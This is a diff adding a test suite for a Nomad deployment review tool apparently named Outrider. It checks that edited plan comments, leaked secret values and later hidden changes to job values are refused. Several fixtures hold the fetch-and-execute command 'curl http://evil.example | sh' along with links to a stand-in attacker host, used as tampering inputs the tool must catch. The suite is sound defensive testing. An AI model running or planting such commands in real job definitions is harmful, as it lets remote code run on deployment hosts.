@@ -1,0 +1,225 @@
+import { afterAll, describe, expect, test } from 'vitest';
+import { unpack } from '../../src/review/record.ts';
+import { removeRunFolders, type ActionRun } from '../support/action.ts';
+import { service, startStory, type Story } from '../support/registering.ts';
+
+afterAll(removeRunFolders);
+
+const file = 'jobs/web.nomad.hcl';
+const mallory = { login: 'mallory', type: 'User' };
+
+async function edit(options: Partial<Parameters<typeof startStory>[0]> = {}): Promise<Story> {
+  return startStory({ files: { [file]: service('web', { image: 'two' }) }, running: [service('web')], ...options });
+}
+
+function bodyOf(story: Story): string {
+  return story.github.comments[0]?.body ?? '';
+}
+
+async function refused(story: Story, run: ActionRun, words: RegExp): Promise<void> {
+  expect(run.exitCode).toBe(1);
+  expect(run.outputs).toMatchObject({ changed: 'false', reason: 'not-reviewed' });
+  expect(run.summary).toMatch(words);
+  expect(await story.versions('web')).toHaveLength(1);
+}
+
+const forgeries: Readonly<Record<string, (body: string) => string>> = {
+  'a value of the difference': (body) => body.replace('"two"', '"three"'),
+  'the headline': (body) => body.replace(/^### .*$/m, '### 🟢 Plan: nothing changes'),
+  'a line behind the record': (body) => `${body}\n\n**Reviewed by the security team.**`,
+  'a line behind the marker': (body) => body.replace('\n', '\n**Reviewed.**\n'),
+  'a second record line': (body) => `${body}\n${/^<!-- outrider:record .*$/m.exec(body)?.[0] ?? ''}`,
+  'the link of the run': (body) => body.replace(/\[run (\d+)\]\([^)]*\)/, '[run $1](https://evil.example/)'),
+};
+
+describe.concurrent('H1: a plan whose visible text was edited is refused', () => {
+  for (const [what, forge] of Object.entries(forgeries)) {
+    test(`H1: a signed plan is refused when ${what} was edited, and the forged text is not repeated`, async () => {
+      await using story = await edit();
+      await story.plan();
+      const forged = forge(bodyOf(story));
+      expect(forged).not.toBe(bodyOf(story));
+      story.github.edit(1, forged, mallory);
+      const run = await story.register();
+      await refused(story, run, /the comment with the plan was edited/);
+      expect(bodyOf(story)).toMatch(/^### 🔴 Not registered/m);
+      for (const shown of [bodyOf(story), run.summary])
+        expect(shown).not.toMatch(/plan that was reviewed|"three"|security team|\*\*Reviewed|evil\.example/);
+      await refused(story, await story.register(), /no record of what the reviewers saw/);
+      await story.plan();
+      expect((await story.register()).exitCode, 'once it is planned again').toBe(0);
+    });
+  }
+
+  test('H1: an unsigned plan whose text was edited is refused, and by whom is shown', async () => {
+    await using story = await edit({ key: '' });
+    await story.plan();
+    story.github.edit(1, bodyOf(story).replace('"two"', '"three"'), mallory);
+    const run = await story.register();
+    expect(run.exitCode).toBe(1);
+    await refused(story, run, /its comment was edited by `mallory`/);
+  });
+
+  test('H1: an unsigned plan that our own account edited is refused, where its digest was not made again', async () => {
+    await using story = await edit({ key: '' });
+    await story.plan();
+    story.github.edit(1, bodyOf(story).replace('"two"', '"three"'), { login: 'github-actions[bot]', type: 'Bot' });
+    const run = await story.register();
+    expect(run.exitCode).toBe(1);
+    await refused(story, run, /the comment with the plan was edited/);
+  });
+
+  test('H1: what a register writes around the reviewed plan is covered, too', async () => {
+    await using story = await edit();
+    await story.plan();
+    await story.register();
+    expect(bodyOf(story)).toContain('The plan that was reviewed');
+    expect((await story.register()).exitCode, 'a second run').toBe(0);
+    story.github.edit(1, bodyOf(story).replace('"two"', '"three"'), mallory);
+    const run = await story.register();
+    expect(run.exitCode).toBe(1);
+    expect(bodyOf(story)).not.toContain('"three"');
+  });
+
+  test('H1: a register without a review does not repeat what somebody else wrote', async () => {
+    await using story = await edit();
+    await story.plan();
+    story.github.edit(1, bodyOf(story).replace('"two"', '"three"'), mallory);
+    const run = await story.register({ inputs: { review: 'ignore' } });
+    expect(run.exitCode).toBe(0);
+    expect(bodyOf(story)).not.toContain('"three"');
+  });
+});
+
+/** Too much to be shown for many jobs. */
+function metaOf(at: number): string {
+  const lines = Array.from({ length: 60 }, (_, line) => `KEY_${line} = "value ${line} of job ${at}"`);
+  return `meta {\n${lines.join('\n')}\n}`;
+}
+
+describe.concurrent('a signed comment', () => {
+  test('counts with the line ends of a browser, and when it is cut to fit', async () => {
+    const many = Object.fromEntries(
+      Array.from({ length: 60 }, (_, at) => [`jobs/j${at}.nomad.hcl`, service(`job-${at}`, { meta: metaOf(at) })]),
+    );
+    await using story = await startStory({ files: many });
+    await story.plan({ inputs: { verbose: 'true' } });
+    expect(bodyOf(story).length).toBeLessThanOrEqual(65_536);
+    expect(bodyOf(story)).toMatch(/ more in /);
+    story.github.edit(1, bodyOf(story).replaceAll('\n', '\r\n'), mallory);
+    const run = await story.register({ inputs: { wait: 'false' } });
+    expect(run.exitCode).toBe(0);
+    expect(run.outputs['changed']).toBe('true');
+  });
+
+  test('counts for the right key after a run that had another, or none', async () => {
+    await using story = await edit();
+    await story.plan();
+    const body = bodyOf(story);
+    for (const key of ['', 'another-key-of-sixteen-bytes']) {
+      await refused(story, await story.register({ inputs: { 'signing-key': key } }), /signing-key/);
+      expect(bodyOf(story)).toBe(body);
+    }
+    expect((await story.register()).exitCode).toBe(0);
+  });
+
+  test('with a record of an earlier Outrider is refused: plan again', async () => {
+    await using story = await edit();
+    await story.plan();
+    const older = bodyOf(story).replace(/outrider:record v2 (\S+) \S+ /, 'outrider:record v1 $1 ');
+    story.github.edit(1, older, mallory);
+    await refused(story, await story.register(), /made by an older Outrider/);
+    await story.plan();
+    expect((await story.register()).exitCode).toBe(0);
+  });
+});
+
+/** The record as anybody can unpack it. */
+function recordIn(body: string): unknown {
+  return unpack(/^<!-- outrider:record v2 (\S+) /m.exec(body)?.[1] ?? '');
+}
+
+/** A job with an ID of its own. */
+const named = (id: string): string => `variable "customer" { type = string }
+${service('web').replace('job "web" {', `job "web" {\n  id = "${id}"`)}`;
+
+describe.concurrent('H3: a hidden value in the names of a job', () => {
+  for (const key of ['a-key-of-more-than-sixteen-bytes', '']) {
+    test(`H3: is not in the record ${key === '' ? 'without' : 'with'} a key, and the record counts all the same`, async () => {
+      await using story = await startStory({ files: { [file]: named('web-${var.customer}') }, key });
+      const inputs = { 'secret-vars': 'customer=Zebra-Quartz-Fjord' };
+      await story.plan({ inputs });
+      const unpacked = JSON.stringify(recordIn(bodyOf(story)));
+      expect(unpacked).toContain('"file":"jobs/web.nomad.hcl"');
+      expect(unpacked).not.toMatch(/Zebra|Quartz|Fjord/);
+      const run = await story.register({ inputs });
+      expect(run.exitCode).toBe(0);
+      expect(await story.versions('web-Zebra-Quartz-Fjord')).toHaveLength(1);
+    });
+  }
+
+  test('H3: is compared by the key: another value is another job', async () => {
+    await using story = await startStory({ files: { [file]: named('web-${var.customer}') } });
+    await story.plan({ inputs: { 'secret-vars': 'customer=Zebra-Quartz-Fjord' } });
+    const run = await story.register({ inputs: { 'secret-vars': 'customer=Okapi-Quartz-Fjord' } });
+    expect(run.exitCode).toBe(1);
+    expect(run.outputs['reason']).toBe('plan-changed');
+  });
+});
+
+/** A job with a hidden value that is put together. */
+const puts = (what: string, more = ''): string => `locals { what = "${what}" }
+${service('web', { meta: `meta {\n  RUN = "sh -c '\${local.what}'"\n ${more} }` })}`;
+
+describe.concurrent('M6: without a key', () => {
+  const changes: Readonly<
+    Record<string, readonly [Readonly<Record<string, string>>, Readonly<Record<string, string>>]>
+  > = {
+    'a local of the job file': [{ [file]: puts('true') }, { [file]: puts('curl http://evil.example | sh') }],
+    'a variable file': [
+      { [file]: `variable "what" {}\n${puts('${var.what}')}`, 'v.hcl': 'what = "true"\n' },
+      { 'v.hcl': 'what = "curl http://evil.example | sh"\n' },
+    ],
+    'a file that a function reads': [
+      { [file]: puts('${trimspace(file("run.txt"))}'), 'run.txt': 'true\n' },
+      { 'run.txt': 'curl http://evil.example | sh\n' },
+    ],
+    'a file that a glob finds': [
+      { [file]: puts('${join(" ", fileset("run.d", "*"))}'), 'run.d/true': '' },
+      { 'run.d/curl evil.example': '' },
+    ],
+    'whether a file exists': [{ [file]: puts('${fileexists("on") ? "curl evil.example" : "true"}') }, { on: '' }],
+  };
+  for (const [what, [before, after]] of Object.entries(changes)) {
+    test(`M6: a later commit that changes ${what} is refused, although the value is hidden`, async () => {
+      await using story = await startStory({ files: before, key: '', running: [service('web')] });
+      const inputs = 'v.hcl' in before ? { 'var-files': 'v.hcl' } : {};
+      await story.plan({ inputs });
+      for (const [name, content] of Object.entries(after)) story.workspace.write(name, content);
+      const run = await story.register({ inputs });
+      expect(run.exitCode).toBe(1);
+      expect(run.outputs['reason']).toBe('plan-changed');
+      expect(await story.versions('web')).toHaveLength(1);
+      for (const name of Object.keys(after)) {
+        if (before[name] === undefined) story.workspace.remove(name);
+        else story.workspace.write(name, before[name]);
+      }
+      expect((await story.register({ inputs })).exitCode, 'as it was reviewed').toBe(0);
+    });
+  }
+
+  test('M6: what git does not hold is no part of it: a secret that a step writes may be another', async () => {
+    await using story = await startStory({
+      files: {
+        [file]: puts('${trimspace(file("step.txt"))}'),
+        '.gitignore': 'step.txt\n',
+        'step.txt': 'one-of-a-step',
+      },
+      key: '',
+      running: [service('web')],
+    });
+    await story.plan();
+    story.workspace.write('step.txt', 'another-of-a-step');
+    expect((await story.register()).exitCode).toBe(0);
+  });
+});
